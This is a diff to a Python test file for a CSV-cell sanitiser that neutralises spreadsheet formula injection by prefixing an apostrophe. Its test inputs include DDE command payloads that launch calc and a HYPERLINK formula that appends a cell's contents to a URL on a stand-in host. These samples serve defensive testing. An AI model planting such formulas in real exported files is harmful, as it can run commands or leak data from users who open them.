@@ -29,10 +29,14 @@ from api.csvcells import harmless
         "-1 2-3",
         "-1e5+A1",
         "=",
+        "+1-1",
+        "+1 (555) 123-4567",
+        '=HYPERLINK("http://example.test/"&A1,"Click")',
+        "\t=cmd|' /C calc'!A0",
     ],
 )
 def test_what_would_be_evaluated_gets_an_apostrophe(cell: str) -> None:
-    """OWASP's list; woocommerce/woocommerce#53020, grafana/grafana#17363."""
+    """OWASP's list; OWASP/www-community#401, iota-uz/iota-sdk#1080, productdevbook/hucre#164."""
     assert harmless(cell) == f"'{cell}"
 
 
@@ -56,6 +60,9 @@ def test_what_would_be_evaluated_gets_an_apostrophe(cell: str) -> None:
         "-5%",
         "-5 €",
         "-1.5E-07",
+        "-1250.5",
+        "-1e-7",
+        "-0.02",
         "+49 30 1234",
         "+4930123456",
         "-",
@@ -66,7 +73,9 @@ def test_what_would_be_evaluated_gets_an_apostrophe(cell: str) -> None:
     ],
 )
 def test_plain_numbers_and_other_texts_stay(cell: str) -> None:
-    """woocommerce/woocommerce#53020, grafana/grafana#17363, mui/mui-x#13790, Semkoo/niko-table-registry#194."""
+    """woocommerce/woocommerce#53020, grafana/grafana#17363, mui/mui-x#13790, Semkoo/niko-table-registry#194,
+    JSONbored/metagraphed#4569, hhurz/tableExport.jquery.plugin#296.
+    """
     assert harmless(cell) == cell
 
 
@@ -78,6 +87,8 @@ def test_plain_numbers_and_other_texts_stay(cell: str) -> None:
         ("a\n=1+1", "a\n'=1+1"),
         ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
         ("a;-cmd|'/C calc'!A0", "a;'-cmd|'/C calc'!A0"),
+        ("a\n+cmd|'/C calc'!A0", "a\n'+cmd|'/C calc'!A0"),
+        ("a\n+f(x)\n-a|b|\n@dataclass(frozen=True)", "a\n+f(x)\n-a|b|\n@dataclass(frozen=True)"),
     ],
 )
 def test_a_spreadsheet_that_expects_another_separator_finds_no_formula_within(cell: str, written: str) -> None:
